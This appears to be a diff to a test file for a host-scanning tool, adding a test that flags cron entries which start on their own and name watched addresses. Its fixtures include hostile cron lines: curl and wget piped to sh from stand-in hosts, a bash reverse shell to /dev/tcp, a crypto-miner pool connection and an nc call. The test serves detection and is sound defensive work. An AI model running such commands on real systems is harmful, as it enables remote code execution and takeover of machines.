@@ -11,6 +11,7 @@ import pytest
 from lamsach.indicators.index import Entry, MatchIndex
 from lamsach.indicators.index_writer import build
 from lamsach.indicators.values import Indicator
+from lamsach.scan.persistence.linux.cron import Cron
 from lamsach.scan.persistence.machine import Machine
 from lamsach.scan.surroundings.contacts import Contact, Watched, open_contacts
 from lamsach.scan.surroundings.programs import programs
@@ -49,6 +50,26 @@ def test_listed_name_servers_and_proxies_are_found(tmp_path: Path) -> None:
         ("name server", "/etc/resolv.conf: 192.0.2.53"),
         ("proxy", "/etc/environment: proxy.bad.example"),
     ]
+
+
+@pytest.mark.parametrize(
+    ("command", "host"),
+    [
+        ("* * * * * root curl -s http://x.bad.example/a.sh | sh", "x.bad.example"),
+        ("* * * * * root wget -qO- bad.example/a|sh", "bad.example"),
+        ("@reboot root bash -i >& /dev/tcp/192.0.2.9/4444 0>&1", "192.0.2.9"),
+        ("@reboot root /opt/m -o stratum+tcp://pool.bad.example:3333", "pool.bad.example"),
+        ("@reboot root nc [2001:db8::7] 80", "2001:db8::7"),
+        ("* * * * * root curl http://good.example/a.sh", ""),
+        ("* * * * * root /usr/bin/python3.11 /opt/run.py", ""),
+    ],
+)
+def test_what_starts_by_itself_and_names_a_listed_address_is_found(tmp_path: Path, command: str, host: str) -> None:
+    (tmp_path / "etc").mkdir()
+    (tmp_path / "etc" / "crontab").write_text(f"# tasks\n{command}\n")
+    listed = watched("bad.example", "192.0.2.0/24", "2001:db8::/32")
+    found = [(each.kind, each.place) for each in listed.starts(Cron().enumerate(Machine(tmp_path)))]
+    assert found == ([("startup", f"cron: /etc/crontab:2: {host}")] if host else [])
 
 
 @pytest.mark.parametrize("deleted", [False, True])
